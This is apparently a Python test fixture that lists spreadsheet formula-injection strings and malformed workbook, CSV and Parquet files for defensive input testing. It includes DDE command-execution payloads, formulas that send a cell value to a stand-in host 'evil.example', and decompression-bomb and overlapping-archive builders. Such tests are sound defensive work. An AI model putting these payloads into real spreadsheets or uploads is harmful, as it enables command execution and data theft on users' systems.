"""What a spreadsheet would run, were it the beginning of a cell, and tables that are none."""

from __future__ import annotations

from collections.abc import Callable, Mapping

from tests.hostile import files
from tests.hostile.papers import ENTITIES

FORMULAS = (
    "=1+1",
    "=cmd|'/c calc'!A1",
    '=HYPERLINK("http://evil.example/"&A1,"x")',
    '=IMPORTXML("http://evil.example/","//a")',
    '=WEBSERVICE("http://evil.example/")',
    "@SUM(1+1)*cmd|'/c calc'!A1",
    "+1+cmd|'/c calc'!A1",
    "-2+3+cmd|'/c calc'!A1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "  @x",
    "\t\t-1",
    "=",
)
_BOOK = {"[Content_Types].xml": b"<a/>", "xl/workbook.xml": b"<a/>"}
BAD_TABLES: Mapping[str, tuple[str, Callable[[], bytes]]] = {
    "a program": ("a.xlsx", lambda: b"MZ\x90"),
    "nothing": ("a.xlsx", lambda: b""),
    "an archive that is no workbook": ("a.xlsx", lambda: files.zipped({"a": b"x"})),
    "a workbook cut off": ("a.xlsx", lambda: files.zipped(_BOOK)[:-40]),
    "a workbook with entities": ("a.xlsx", lambda: files.zipped(dict.fromkeys(_BOOK, ENTITIES))),
    "a workbook that unfolds to 90 MB": ("a.xlsx", lambda: files.zipped(_BOOK | {"xl/a.xml": bytes(90_000_000)})),
    "parts that overlap": ("a.xlsx", lambda: files.overlapping(300)),
    "a table that is none": ("a.parquet", lambda: b"PAR1" + b"\xff" * 500 + b"PAR1"),
    "another kind": ("a.xlsm", lambda: b"PK"),
    "a sheet without a heading": ("a.csv", lambda: b"\n\n"),
}
